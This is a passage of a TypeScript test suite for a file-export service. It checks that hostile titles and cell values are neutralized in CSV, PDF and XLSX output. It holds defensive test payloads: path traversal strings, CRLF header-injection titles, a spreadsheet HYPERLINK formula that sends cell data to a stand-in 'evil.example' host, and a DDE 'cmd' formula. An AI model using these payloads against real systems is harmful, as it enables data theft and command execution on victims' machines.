        expect(response.body).not.toContain('[fonts]');
        if (method !== 'HEAD') {
          expect(response.json().code).toMatch(
            /^EXECUTOR_(JOB_NOT_FOUND|NOT_FOUND|INVALID_REQUEST)$/,
          );
        }
      }
    }
    // The one real job is untouched, whatever was asked for around it.
    expect(await jobFolders(exportDirectory)).toEqual([jobId]);
    const download = await app.inject({ method: 'GET', url: `/export/jobs/${jobId}/download` });
    expect(download.statusCode).toBe(200);
    // Names of files come from the server: a hostile title or user never reaches a path.
    const run = await app.inject({
      method: 'POST',
      url: '/export/run',
      payload: { format: 'pdf', data: [{ a: 1 }], title: '../../etc/passwd', user: '..\\..\\x' },
    });
    expect(run.json().result.filename).toMatch(/^[0-9a-f-]{36}\.pdf$/);
    const workbook = await app.inject({
      method: 'POST',
      url: '/export/run',
      payload: { format: 'xlsx', data: [{ a: 1 }], title: '../../etc/passwd', user: '..\\..\\x' },
    });
    expect(workbook.json().result.filename).toMatch(/^[0-9a-f-]{36}\.xlsx$/);
    expect((await readdir(exportDirectory)).sort()).toEqual(
      [run.json().result.filename, workbook.json().result.filename, 'jobs'].sort(),
    );
  });

  it('keeps Content-Disposition one safe ASCII line whatever the title, the PDF renders it and the workbook holds it', async () => {
    const { app, exportDirectory } = await buildTestAppWithFolder();
    const titles = [
      'Trades\r\nSet-Cookie: stolen=1',
      'say "hi"; filename="evil.exe"; filename*=UTF-8\'\'evil.exe',
      'İstanbul Şişli Αλέξανδρος 📈',
      '\u0000\u0007\u001b[31m\u007f',
      '../../etc/passwd',
      '\r\n\r\nHTTP/1.1 200 OK',
    ];
    for (const title of titles) {
      for (const format of ['csv', 'pdf', 'xlsx'] as const) {
        for (const route of ['stream', 'jobs', 'stream-ndjson', 'jobs-ndjson'] as const) {
          const answer = await exportThrough(app, exportDirectory, route, [{ a: 1 }], {
            format,
            title,
          });
          expect(answer.statusCode, answer.body).toBeLessThan(300);
          expect(answer.disposition).toMatch(safeDisposition);
          expect(answer.disposition).toMatch(/^[\x20-\x7e]+$/);
          expect(answer.disposition?.endsWith(`.${format}"`)).toBe(true);
          if (format === 'xlsx') {
            // The title is the document's, in its own part: every part still well-formed, the
            // sheet untouched, and the title whole (CR and LF too) but for its controls.
            const workbook = await readWorkbook(answer.file as Buffer);
            expect(workbook.title).toBe(asPropertyReadsIt(title));
            expect(values(workbook.sheets[0])).toEqual([['a'], [1]]);
          }
          if (format !== 'pdf') continue;
          const pdf = await pdfText(answer.file as Buffer);
          expect(pdf.pages).toBe(1);
          // Control characters are drawn as spaces; everything else as it was given.
          const printable = title.replace(/\p{Cc}/gu, ' ').trim();
          const firstWord = printable.split(/\s+/)[0] ?? '';
          expect(pdf.text).toContain(firstWord.slice(0, 6));
          // pdfjs reads ESC in a PDF string as a language marker: compare printable titles only.
          if (printable === title) expect(pdf.title).toBe(title);
        }
      }
    }
    // HEAD of a download carries the same header.
    const job = await exportThrough(app, exportDirectory, 'jobs', [{ a: 1 }], {
      format: 'pdf',
      title: titles[0] as string,
    });
    expect(job.disposition).toMatch(safeDisposition);
    // A workbook's download, asked with HEAD: the same safe name, and the workbook's media type.
    const submitted = await app.inject({
      method: 'POST',
      url: '/export/jobs',
      payload: { format: 'xlsx', data: [{ a: 1 }], title: titles[0] },
    });
    expect(submitted.statusCode, submitted.body).toBe(202);
    const done = await waitForJobStatus(app, submitted.json<JobView>().id, ['done']);
    const head = await app.inject({ method: 'HEAD', url: done.links.download });
    expect(head.statusCode).toBe(200);
    expect(head.headers['content-disposition']).toMatch(safeDisposition);
    expect(head.headers['content-disposition']).toMatch(/\.xlsx"$/);
    expect(head.headers['content-type']).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
  });

  it('neutralizes formula payloads in CSV cells and headers in the excel profile (the default), and rfc4180 writes them as sent', async () => {
    const { app, exportDirectory } = await buildTestAppWithFolder();
    const payloads = [
      '=1+1',
      '=HYPERLINK("http://evil.example/?"&A1,"click")',
      '+SUM(A1:A9)',
      '-2+3',
      '@SUM(A1)',
      "=cmd|' /C calc'!A0",
      '\t=1+1',
      '\r=1+1',
      '\u0000=1+1',
    ];
    const records = payloads.map((payload, index) => ({ id: index, payload, number: -index }));
    const columns = ['id', 'payload', 'number', '=header'];
    for (const route of allRoutes) {
      // rfc4180 is plain: what was sent, quoted where RFC 4180 says (NUL still dropped).
      const plain = await exportThrough(app, exportDirectory, route, records, {
        format: 'csv',
        columns: route.endsWith('ndjson') ? columns.join(',') : columns,
        csvProfile: 'rfc4180',
      });
      expect(plain.statusCode, plain.body).toBeLessThan(300);
      expect(csvRows(plain.file as Buffer)).toEqual([
        columns,
        ...payloads.map((payload, index) => [
          String(index),
          payload.replace('\u0000', ''),
          index === 0 ? '0' : `-${index}`,
          '',
        ]),
      ]);
    }
    for (const csvProfile of ['excel', undefined] as const) {
      for (const route of allRoutes) {
        const answer = await exportThrough(app, exportDirectory, route, records, {
          format: 'csv',
          columns: route.endsWith('ndjson') ? columns.join(',') : columns,
          ...(csvProfile ? { csvProfile } : {}),
        });
        expect(answer.statusCode, answer.body).toBeLessThan(300);
        const rows = csvRows(answer.file as Buffer);
        expect(rows[0]).toEqual(['id', 'payload', 'number', "'=header"]);
        for (const [index, row] of rows.slice(1).entries()) {
          const payload = payloads[index] as string;
          // The NUL is dropped after the guard has seen it: the cell still starts with '.
          expect(row[1]).toBe(`'${payload.replace('\u0000', '')}`);
          // A negative number is not a formula: numbers are written as they are.
          expect(row[2]).toBe(index === 0 ? '0' : `-${index}`);
        }
        for (const cell of rows.flat()) {
          // Nothing a spreadsheet would evaluate, except excel's ="0123" digit-string guard.
          if (/^[=+\-@\t\r]/.test(cell)) expect(cell).toMatch(/^(-\d+|="\d+")$/);
        }
      }
    }
  });

  it('writes formula payloads in XLSX cells and headers as text cells, never a formula, on every route', async () => {
    const { app, exportDirectory } = await buildTestAppWithFolder();
    // No profile and no quote to add: a cell is a formula only if it has an <f>, which the
    // writer never makes, so the payload is kept as it was sent (escapes aside).
    const payloads = [
      '=1+1',
      '=HYPERLINK("http://evil.example/?"&A1,"click")',
      '+SUM(A1:A9)',
      '-2+3',
      '@SUM(A1)',
      "=cmd|' /C calc'!A0",
      '\t=1+1',
      '\r=1+1',
      '\u0000=1+1',
    ];
    const records = payloads.map((payload, index) => ({ id: index, payload, number: -index }));
    const columns = ['id', 'payload', 'number', '=header'];
    for (const route of allRoutes) {
      const answer = await exportThrough(app, exportDirectory, route, records, {
        format: 'xlsx',
        columns: route.endsWith('ndjson') ? columns.join(',') : columns,
      });
      expect(answer.statusCode, answer.body).toBeLessThan(300);
      const file = answer.file as Buffer;
      const sheet = xlsxParts(file)['xl/worksheets/sheet1.xml'] ?? '';
      expect(sheet).toContain('<sheetData>');
      expect(sheet).not.toMatch(/<f[ >]/);
      // Every payload and header a text cell; the numbers number cells, negative ones too.
      const workbook = await readWorkbook(file);
      const rows = workbook.sheets[0]?.rows ?? [];
      expect(rows[0]?.map((cell) => cell.value)).toEqual(columns);
      expect(rows[0]?.map((cell) => cell.type)).toEqual(['str', 'str', 'str', 'str']);
      for (const [index, row] of rows.slice(1).entries()) {
        expect(row.map((cell) => cell.type)).toEqual(['int', 'str', 'int', 'NoneType']);
        expect(row.map((cell) => cell.value)).toEqual([
          index,
          asOpenpyxlReadsIt(payloads[index] as string),
          index === 0 ? 0 : -index,
          null,
        ]);
      }
      expect(rows).toHaveLength(payloads.length + 1);
    }
  });

  it('refuses a 100,000-character title (and user) with 400 naming the field and the limit', async () => {
    const { app, exportDirectory } = await buildTestAppWithFolder();
    const title = 'T'.repeat(100_000);
    for (const format of ['csv', 'pdf', 'xlsx'] as const) {
      for (const route of jsonRoutes) {
        const tooLong = await app.inject({
          method: 'POST',
          url: urlOf[route],
          payload: { format, data: [{ a: 1 }], title },
        });
        expect(expectError(tooLong, 400, 'EXECUTOR_INVALID_REQUEST').message).toBe(
          'body/title must not have more than 500 characters',
        );
        const user = await app.inject({
          method: 'POST',
          url: urlOf[route],
          payload: { format, data: [{ a: 1 }], user: title },
        });
        expect(expectError(user, 400, 'EXECUTOR_INVALID_REQUEST').message).toBe(
          'body/user must not have more than 200 characters',
        );
      }
      for (const route of ndjsonRoutes) {
        const tooLong = await app.inject({
          method: 'POST',
          url: `${urlOf[route]}?format=${format}&title=${title}`,
          headers: ndjson,
          body: ndjsonOf([{ a: 1 }]),
        });
        expect(expectError(tooLong, 400, 'EXECUTOR_INVALID_REQUEST').message).toBe(
          'querystring/title must not have more than 500 characters',
        );
      }
    }
    expect(await jobFolders(exportDirectory)).toEqual([]);
    // The longest title accepted is drawn cut to the page, in a small file.
    for (const route of allRoutes) {
      const answer = await exportThrough(app, exportDirectory, route, [{ a: 1 }], {
        format: 'pdf',
        title: 'W'.repeat(500),
      });
      expect(answer.statusCode).toBeLessThan(300);
      expect((answer.file as Buffer).length).toBeLessThan(50_000);
      const pdf = await pdfText(answer.file as Buffer);
      expect(pdf.pages).toBe(1);
      expect(pdf.text).toMatch(/W+…/);
    }
  });
});
